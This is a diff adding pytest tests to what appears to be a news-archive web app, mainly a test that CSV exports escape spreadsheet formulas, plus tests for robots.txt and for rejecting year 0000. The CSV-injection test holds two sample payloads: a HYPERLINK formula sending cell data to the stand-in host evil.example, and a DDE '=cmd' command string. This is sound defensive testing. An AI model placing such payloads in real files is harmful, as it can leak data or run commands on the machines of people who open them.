@@ -430,3 +430,45 @@ def test_robots_txt_keeps_crawlers_out_of_searches_and_points_to_the_sitemap(cli
                "/api/articles/a-report/", "/admin/", "/admin/login/"]
     assert [p for p in allowed if not robots_allows(rules, p)] == []
     assert [p for p in blocked if robots_allows(rules, p)] == []
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1,1)",
+            "\tTabbed", "'=quoted already"]
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(client, index, tmp_path):
+    evil_source = f.source("=cmd|' /C calc'!A0")
+    for i, title in enumerate(FORMULAS):
+        f.article(title, f"Body {i} mentions protest.", source=evil_source,
+                  cities=[f.city(f"-City{i}")], record_id=f"=id{i}")
+    rows = list(csv.reader(io.StringIO(read_stream(client.get("/search/export.csv")).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    titles = {row[1] for row in rows[1:]}
+    assert titles == {"'" + t for t in FORMULAS}
+    assert {row[4] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
+    # The archive's own import reads them back exactly.
+    out = StringIO()
+    call_command("export_articles", "--format", "csv", stdout=out)
+    exported = out.getvalue()
+    cells = [cell for row in list(csv.reader(io.StringIO(exported)))[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    (tmp_path / "all.csv").write_text(exported, encoding="utf-8")
+    Article.objects.all().delete()
+    call_command("import_articles", str(tmp_path / "all.csv"), stdout=StringIO())
+    # (Import collapses whitespace in titles, the tab included.)
+    assert sorted(Article.objects.values_list("title", flat=True)) == sorted(" ".join(t.split())
+                                                                             for t in FORMULAS)
+    assert set(Article.objects.values_list("source__name", flat=True)) == {"=cmd|' /C calc'!A0"}
+    again = StringIO()
+    call_command("export_articles", "--format", "csv", stdout=again)
+    assert again.getvalue() == exported.replace("'\tTabbed", "Tabbed")
+
+
+@pytest.mark.parametrize("url", ["/search/", "/search/feed/", "/search/export.csv", "/search/export.json",
+                                 "/api/search/"])
+def test_year_zero_is_a_bad_parameter_everywhere(client, corpus, url):
+    response = client.get(url, {"year": "0000"})
+    assert response.status_code == (200 if url == "/search/" else 400)
+    body = response.content.decode()
+    assert "There is no year 0000: years run from 0001 to 9999." in body.replace("&#x27;", "'")
